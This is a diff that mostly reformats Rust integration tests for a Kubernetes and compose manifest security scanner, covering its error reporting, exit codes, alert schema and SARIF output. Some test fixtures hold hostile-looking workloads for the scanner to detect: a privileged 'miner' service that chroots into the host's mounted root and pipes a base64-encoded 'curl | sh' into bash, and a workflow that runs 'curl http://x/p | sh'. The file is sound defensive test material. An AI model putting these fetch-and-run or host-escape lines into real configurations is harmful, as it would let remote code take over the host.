@@ -11,33 +11,89 @@ const HOSTNET: &str = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: n\n  namesp
 fn malformed_inputs_are_located_and_the_batch_goes_on() {
     let dir = tempfile::tempdir().expect("tmp");
     let p = dir.path();
-    fs::write(p.join("a-bad.yaml"), "kind: Pod\nmetadata:\n  name: x\nspec: [unclosed\n").expect("w");
+    fs::write(
+        p.join("a-bad.yaml"),
+        "kind: Pod\nmetadata:\n  name: x\nspec: [unclosed\n",
+    )
+    .expect("w");
     fs::write(p.join("b-scalar.yaml"), "---\njust a string\n").expect("w");
     fs::write(p.join("c-kind0.json"), "{\"kind\": 0}\n").expect("w");
-    fs::write(p.join("d-truncated.json"), "{\"kind\": \"Pod\", \"spec\": {\"containers\": [").expect("w");
-    fs::write(p.join("e-not-utf8.yaml"), b"kind: Pod\nmetadata: {name: \xff}\n").expect("w");
+    fs::write(
+        p.join("d-truncated.json"),
+        "{\"kind\": \"Pod\", \"spec\": {\"containers\": [",
+    )
+    .expect("w");
+    fs::write(
+        p.join("e-not-utf8.yaml"),
+        b"kind: Pod\nmetadata: {name: \xff}\n",
+    )
+    .expect("w");
     // 50 MB: refused before parsing, with its name.
     let big = "# padding\n".repeat(5 * 1024 * 1024);
     fs::write(p.join("f-big.yaml"), format!("{PRIVILEGED}{big}")).expect("w");
-    fs::write(p.join("g-good.yaml"), format!("{PRIVILEGED}---\n- a list\n---\n{HOSTNET}")).expect("w");
+    fs::write(
+        p.join("g-good.yaml"),
+        format!("{PRIVILEGED}---\n- a list\n---\n{HOSTNET}"),
+    )
+    .expect("w");
     let out = run(&["scan", p.to_str().expect("utf8"), "--format", "jsonl"]);
     let err = String::from_utf8_lossy(&out.stderr);
     assert_eq!(out.status.code(), Some(2), "input errors exit 2: {err}");
     assert!(!err.contains("panicked"), "{err}");
-    let line_of = |name: &str| err.lines().find(|l| l.contains(name)).unwrap_or_else(|| panic!("no error for {name}: {err}")).to_string();
+    let line_of = |name: &str| {
+        err.lines()
+            .find(|l| l.contains(name))
+            .unwrap_or_else(|| panic!("no error for {name}: {err}"))
+            .to_string()
+    };
     assert!(line_of("a-bad.yaml").contains("a-bad.yaml:4"), "{err}");
-    assert!(line_of("b-scalar.yaml").contains("b-scalar.yaml:2: document is a string"), "{err}");
-    assert!(line_of("c-kind0.json").contains("c-kind0.json:1: field kind: expected a string"), "{err}");
-    assert!(line_of("d-truncated.json").contains("d-truncated.json:1:"), "{err}");
-    assert!(line_of("e-not-utf8.yaml").contains("e-not-utf8.yaml:2: not UTF-8"), "{err}");
+    assert!(
+        line_of("b-scalar.yaml").contains("b-scalar.yaml:2: document is a string"),
+        "{err}"
+    );
+    assert!(
+        line_of("c-kind0.json").contains("c-kind0.json:1: field kind: expected a string"),
+        "{err}"
+    );
+    assert!(
+        line_of("d-truncated.json").contains("d-truncated.json:1:"),
+        "{err}"
+    );
+    assert!(
+        line_of("e-not-utf8.yaml").contains("e-not-utf8.yaml:2: not UTF-8"),
+        "{err}"
+    );
     assert!(line_of("f-big.yaml").contains("larger than"), "{err}");
-    assert!(line_of("g-good.yaml").contains("g-good.yaml:13: document is a list"), "{err}");
+    assert!(
+        line_of("g-good.yaml").contains("g-good.yaml:13: document is a list"),
+        "{err}"
+    );
     // The good documents were still judged, with their own lines.
     let a = alerts(&out);
-    let good: Vec<_> = a.iter().filter(|x| x["source"]["file"].as_str().is_some_and(|f| f.ends_with("g-good.yaml"))).collect();
-    assert!(good.iter().any(|x| x["rule"]["id"] == "PRV001" && x["source"]["line"] == 1), "{good:?}");
-    assert!(good.iter().any(|x| x["rule"]["id"] == "PRV004" && x["source"]["line"] == 15 && x["source"]["document"] == 2), "{good:?}");
-    assert!(!a.iter().any(|x| x["source"]["file"].as_str().is_some_and(|f| f.ends_with("f-big.yaml"))));
+    let good: Vec<_> = a
+        .iter()
+        .filter(|x| {
+            x["source"]["file"]
+                .as_str()
+                .is_some_and(|f| f.ends_with("g-good.yaml"))
+        })
+        .collect();
+    assert!(
+        good.iter()
+            .any(|x| x["rule"]["id"] == "PRV001" && x["source"]["line"] == 1),
+        "{good:?}"
+    );
+    assert!(
+        good.iter().any(|x| x["rule"]["id"] == "PRV004"
+            && x["source"]["line"] == 15
+            && x["source"]["document"] == 2),
+        "{good:?}"
+    );
+    assert!(!a.iter().any(|x| {
+        x["source"]["file"]
+            .as_str()
+            .is_some_and(|f| f.ends_with("f-big.yaml"))
+    }));
 }
 
 #[test]
@@ -46,11 +102,42 @@ fn exit_codes_follow_fail_on() {
     let f = dir.path().join("n.yaml");
     fs::write(&f, HOSTNET).expect("w");
     let f = f.to_str().expect("utf8");
-    assert_eq!(run(&["scan", f, "--format", "json"]).status.code(), Some(0), "medium < default high");
-    assert_eq!(run(&["scan", f, "--format", "json", "--fail-on", "medium"]).status.code(), Some(1));
-    assert_eq!(run(&["scan", f, "--ignore", "PRV004", "--fail-on", "low", "--format", "json"]).status.code(), Some(0));
-    assert_eq!(run(&["scan", f, "--pss", "strict"]).status.code(), Some(2), "usage error");
-    assert_eq!(run(&["scan", f, "--fail-on", "severe"]).status.code(), Some(2), "usage error");
+    assert_eq!(
+        run(&["scan", f, "--format", "json"]).status.code(),
+        Some(0),
+        "medium < default high"
+    );
+    assert_eq!(
+        run(&["scan", f, "--format", "json", "--fail-on", "medium"])
+            .status
+            .code(),
+        Some(1)
+    );
+    assert_eq!(
+        run(&[
+            "scan",
+            f,
+            "--ignore",
+            "PRV004",
+            "--fail-on",
+            "low",
+            "--format",
+            "json"
+        ])
+        .status
+        .code(),
+        Some(0)
+    );
+    assert_eq!(
+        run(&["scan", f, "--pss", "strict"]).status.code(),
+        Some(2),
+        "usage error"
+    );
+    assert_eq!(
+        run(&["scan", f, "--fail-on", "severe"]).status.code(),
+        Some(2),
+        "usage error"
+    );
     let missing = run(&["scan", "/nonexistent/x.yaml", "--format", "json"]);
     assert_eq!(missing.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/x.yaml: cannot open"));
@@ -58,12 +145,21 @@ fn exit_codes_follow_fail_on() {
 
 #[test]
 fn stdin_select_and_alert_schema() {
-    let out = run_stdin(&["scan", "-", "--format", "jsonl", "--select", "PRV,MNT"], PRIVILEGED);
+    let out = run_stdin(
+        &["scan", "-", "--format", "jsonl", "--select", "PRV,MNT"],
+        PRIVILEGED,
+    );
     assert_eq!(out.status.code(), Some(1));
     let a = alerts(&out);
     assert!(!a.is_empty());
-    assert!(a.iter().all(|x| ["PRV", "MNT"].contains(&x["rule"]["family"].as_str().unwrap_or(""))));
-    let x = a.iter().find(|x| x["rule"]["id"] == "PRV001").expect("PRV001");
+    assert!(
+        a.iter()
+            .all(|x| ["PRV", "MNT"].contains(&x["rule"]["family"].as_str().unwrap_or("")))
+    );
+    let x = a
+        .iter()
+        .find(|x| x["rule"]["id"] == "PRV001")
+        .expect("PRV001");
     // The schema of docs/alert-schema.md.
     assert_eq!(x["rule"]["name"], "privileged-container");
     assert_eq!(x["severity"], "critical");
@@ -71,7 +167,10 @@ fn stdin_select_and_alert_schema() {
     assert_eq!(x["source"]["kind"], "manifest");
     assert_eq!(x["source"]["file"], "-");
     assert_eq!(x["source"]["line"], 1);
-    assert_eq!(x["target"], serde_json::json!({"kind": "Pod", "api_version": "v1", "namespace": "apps", "name": "p"}));
+    assert_eq!(
+        x["target"],
+        serde_json::json!({"kind": "Pod", "api_version": "v1", "namespace": "apps", "name": "p"})
+    );
     assert_eq!(x["container"]["name"], "c");
     assert_eq!(x["container"]["path"], "spec.containers[0]");
     assert_eq!(x["images"], serde_json::json!(["alpine:3.20"]));
@@ -84,21 +183,53 @@ fn stdin_select_and_alert_schema() {
 
 #[test]
 fn pss_findings_carry_level_version_and_check() {
-    let out = run_stdin(&["scan", "-", "--format", "jsonl", "--pss", "restricted:v1.30", "--select", "PSS"], PRIVILEGED);
+    let out = run_stdin(
+        &[
+            "scan",
+            "-",
+            "--format",
+            "jsonl",
+            "--pss",
+            "restricted:v1.30",
+            "--select",
+            "PSS",
+        ],
+        PRIVILEGED,
+    );
     let a = alerts(&out);
-    let p = a.iter().find(|x| x["pss"]["check"] == "privileged").expect("privileged check");
+    let p = a
+        .iter()
+        .find(|x| x["pss"]["check"] == "privileged")
+        .expect("privileged check");
     assert_eq!(p["pss"]["level"], "restricted");
     assert_eq!(p["pss"]["version"], "v1.30");
-    assert!(p["message"].as_str().unwrap_or("").contains("container \"c\" must not set securityContext.privileged=true"), "{p}");
-    let checks: Vec<&str> = a.iter().filter_map(|x| x["pss"]["check"].as_str()).collect();
-    for c in ["allowPrivilegeEscalation", "runAsNonRoot", "seccompProfile_restricted", "capabilities_restricted"] {
+    assert!(
+        p["message"]
+            .as_str()
+            .unwrap_or("")
+            .contains("container \"c\" must not set securityContext.privileged=true"),
+        "{p}"
+    );
+    let checks: Vec<&str> = a
+        .iter()
+        .filter_map(|x| x["pss"]["check"].as_str())
+        .collect();
+    for c in [
+        "allowPrivilegeEscalation",
+        "runAsNonRoot",
+        "seccompProfile_restricted",
+        "capabilities_restricted",
+    ] {
         assert!(checks.contains(&c), "{checks:?}");
     }
 }
 
 #[test]
 fn inline_suppression_names_codes_and_is_counted() {
-    let text = PRIVILEGED.replace("  namespace: apps\n", "  namespace: apps\n  annotations:\n    portcullis.dev/ignore: \"PRV001, IMG\"\n");
+    let text = PRIVILEGED.replace(
+        "  namespace: apps\n",
+        "  namespace: apps\n  annotations:\n    portcullis.dev/ignore: \"PRV001, IMG\"\n",
+    );
     let out = run_stdin(&["scan", "-", "--format", "table"], &text);
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(!stdout.contains("PRV001"), "{stdout}");
@@ -113,7 +244,10 @@ fn table_ends_with_a_summary() {
     let s = String::from_utf8_lossy(&out.stdout);
     assert!(s.contains("PRV001 privileged-container"), "{s}");
     assert!(s.contains("alerts: 1 critical"), "{s}");
-    assert!(s.contains("1 file(s), 1 document(s), 1 workload(s) scanned"), "{s}");
+    assert!(
+        s.contains("1 file(s), 1 document(s), 1 workload(s) scanned"),
+        "{s}"
+    );
 }
 
 #[test]
@@ -125,10 +259,21 @@ fn sarif_is_code_scanning_shaped() {
     assert_eq!(run["tool"]["driver"]["name"], "portcullis");
     let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
     assert!(rules.len() >= 60);
-    let r = run["results"].as_array().expect("results").iter().find(|r| r["ruleId"] == "PRV001").expect("result");
+    let r = run["results"]
+        .as_array()
+        .expect("results")
+        .iter()
+        .find(|r| r["ruleId"] == "PRV001")
+        .expect("result");
     assert_eq!(r["level"], "error");
-    assert_eq!(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "stdin");
-    assert_eq!(r["locations"][0]["physicalLocation"]["region"]["startLine"], 1);
+    assert_eq!(
+        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
+        "stdin"
+    );
+    assert_eq!(
+        r["locations"][0]["physicalLocation"]["region"]["startLine"],
+        1
+    );
     let idx = r["ruleIndex"].as_u64().expect("ruleIndex") as usize;
     assert_eq!(rules[idx]["id"], "PRV001");
     assert_eq!(rules[idx]["properties"]["security-severity"], "9.5");
@@ -139,19 +284,32 @@ fn sarif_is_code_scanning_shaped() {
 fn compose_files_are_judged_by_the_same_rules() {
     let text = "services:\n  miner:\n    image: alpineos/dockerapi\n    privileged: true\n    network_mode: host\n    volumes: ['/:/host']\n    command: chroot /host bash -c 'echo Y3VybCB4IHwgc2g= | base64 -d | bash'\n";
     let out = run_stdin(&["scan", "-", "--format", "jsonl"], text);
-    let codes: Vec<String> = alerts(&out).iter().map(|x| x["rule"]["id"].as_str().unwrap_or("").to_string()).collect();
+    let codes: Vec<String> = alerts(&out)
+        .iter()
+        .map(|x| x["rule"]["id"].as_str().unwrap_or("").to_string())
+        .collect();
     for c in ["PRV001", "PRV004", "MNT001", "IMG005", "PAY002", "PAY005"] {
         assert!(codes.iter().any(|x| x == c), "{c} missing from {codes:?}");
     }
-    assert!(alerts(&out).iter().all(|x| x["source"]["kind"] == "compose" && x["source"]["line"] == 2));
+    assert!(
+        alerts(&out)
+            .iter()
+            .all(|x| x["source"]["kind"] == "compose" && x["source"]["line"] == 2)
+    );
 }
 
 #[test]
 fn crd_pod_templates_are_found_by_shape() {
     let text = "apiVersion: kubeflow.org/v1\nkind: Notebook\nmetadata: {name: nb, namespace: team}\nspec:\n  template:\n    spec:\n      containers:\n      - name: notebook\n        image: ddsfdfsaadfs/dfsdf:99\n        securityContext: {privileged: true}\n---\napiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: wf-}\nspec:\n  templates:\n  - name: main\n    container:\n      image: alpine:3.20\n      command: [sh, -c, 'curl http://x/p | sh']\n---\napiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec:\n  steps:\n  - name: s\n    image: alpine:3.20\n    securityContext: {capabilities: {add: [SYS_ADMIN]}}\n";
     let a = alerts(&run_stdin(&["scan", "-", "--format", "jsonl"], text));
-    let has = |kind: &str, code: &str| a.iter().any(|x| x["target"]["kind"] == kind && x["rule"]["id"] == code);
-    assert!(has("Notebook", "PRV001") && has("Notebook", "IMG005"), "{a:?}");
+    let has = |kind: &str, code: &str| {
+        a.iter()
+            .any(|x| x["target"]["kind"] == kind && x["rule"]["id"] == code)
+    };
+    assert!(
+        has("Notebook", "PRV001") && has("Notebook", "IMG005"),
+        "{a:?}"
+    );
     assert!(has("Workflow", "PAY001"), "{a:?}");
     assert!(has("Task", "PRV006"), "{a:?}");
     let nb = a.iter().find(|x| x["rule"]["id"] == "PRV001").expect("nb");
@@ -162,18 +320,43 @@ fn crd_pod_templates_are_found_by_shape() {
 fn rules_list_show_and_docs_agree() {
     let list = String::from_utf8_lossy(&run(&["rules", "list"]).stdout).to_string();
     assert!(list.lines().count() >= 60);
-    assert!(list.contains("PRV001  critical  container  privileged-container"), "{list}");
+    assert!(
+        list.contains("PRV001  critical  container  privileged-container"),
+        "{list}"
+    );
     let show = run(&["rules", "show", "prv001"]);
     let text = String::from_utf8_lossy(&show.stdout).to_string();
     assert!(text.starts_with("# PRV001 privileged-container"), "{text}");
-    for h in ["## What it detects", "## Why it matters", "## Example", "## Tuning", "## Prevention", "## References"] {
+    for h in [
+        "## What it detects",
+        "## Why it matters",
+        "## Example",
+        "## Tuning",
+        "## Prevention",
+        "## References",
+    ] {
         assert!(text.contains(h), "{h}");
     }
     // The committed docs are generated from the same registry.
-    let committed = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/rules/PRV001.md")).expect("docs/rules/PRV001.md");
+    let committed = fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../docs/rules/PRV001.md"
+    ))
+    .expect("docs/rules/PRV001.md");
     assert_eq!(committed, text);
-    let check = run(&["rules", "docs", "--check", "--out", concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/rules")]);
-    assert_eq!(check.status.code(), Some(0), "{}", String::from_utf8_lossy(&check.stderr));
+    let check = run(&[
+        "rules",
+        "docs",
+        "--check",
+        "--out",
+        concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/rules"),
+    ]);
+    assert_eq!(
+        check.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&check.stderr)
+    );
     assert_eq!(run(&["rules", "show", "NOPE999"]).status.code(), Some(2));
 }
 
@@ -182,9 +365,15 @@ fn bad_user_rules_are_reported_with_file_and_line_and_nothing_runs() {
     let dir = tempfile::tempdir().expect("tmp");
     let rules = dir.path().join("mine.yaml");
     fs::write(&rules, "rules:\n  - code: USR001\n    name: mine\n    severity: high\n    attack: [T1610]\n    scope: container\n    condition: container.privilegd\n    message: m\n    docs: {summary: s, detects: d, why: w, example: e, tuning: t, prevention: p}\n").expect("w");
-    let out = run_stdin(&["scan", "-", "--rules", rules.to_str().expect("utf8")], PRIVILEGED);
+    let out = run_stdin(
+        &["scan", "-", "--rules", rules.to_str().expect("utf8")],
+        PRIVILEGED,
+    );
     let err = String::from_utf8_lossy(&out.stderr);
     assert_eq!(out.status.code(), Some(2));
-    assert!(err.contains("mine.yaml:2: rule USR001: condition: unknown name container.privilegd"), "{err}");
+    assert!(
+        err.contains("mine.yaml:2: rule USR001: condition: unknown name container.privilegd"),
+        "{err}"
+    );
     assert!(err.contains("did you mean container.privileged"), "{err}");
 }
